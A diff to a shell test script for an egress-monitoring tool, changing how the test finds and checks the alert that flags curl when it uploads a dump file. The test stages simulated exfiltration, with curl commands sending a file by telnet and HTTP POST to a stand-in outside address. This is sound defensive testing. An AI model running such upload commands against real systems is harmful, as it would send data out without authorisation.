@@ -124,15 +124,16 @@ head -c 120000000 /dev/zero >"$tmp/dump"
 in_db curl -sS -m 30 -T "$tmp/dump" telnet://203.0.113.7:9000 </dev/null >/dev/null 2>&1 & pids+=($!)
 in_db bash -c "exec curl -sS -m 20 --data-binary @$tmp/dump http://203.0.113.7:9000/" >/dev/null 2>&1 & curl=$!
 pids+=("$curl")
-wait_for 15 bash -c "'$BUILD/egressctl' --socket '$tmp/sock' alerts --json | grep -q '\"open\"'"
+wait_for 15 bash -c "'$BUILD/egressctl' --socket '$tmp/sock' alerts --json | grep curl | grep -q '\"page\"'"
 ctl alerts --json >"$tmp/alerts"
 expect_match theft-is-reported "$(cat "$tmp/alerts")" '"level":"page"'
-expect_match theft-names-the-tool "$(json "$tmp/alerts" "rows[0]['subject']")" 'curl.*203\.0\.113'
+expect_match theft-names-the-tool "$(json "$tmp/alerts" "' '.join(r['subject'] for r in rows)")" 'curl.*203\.0\.113'
 expect_match alert-was-logged "$(cat "$tmp/log")" 'ALERT .* page open'
-id=$(json "$tmp/alerts" "rows[0]['alert.id']")
+id=$(json "$tmp/alerts" "[r for r in rows if 'curl' in r['subject']][0]['alert.id']")
 expect show-finds-it "$(ctl show "${id:0:8}" --json | json - "rows[0]['alert.id']")" "$id"
 expect ack-works "$(ctl ack "$id" >/dev/null; echo $?)" 0
 kill "$curl" 2>/dev/null
+wait_for 5 grep -q '"level":"page"' "$tmp/follow"
 expect_match followers-hear-of-it "$(cat "$tmp/follow")" '"level":"page"'
 wait "$recorder" 2>/dev/null
 expect_match trace-begins-with-its-header "$(head -1 "$tmp/trace.jsonl")" '"trace":"egress"'
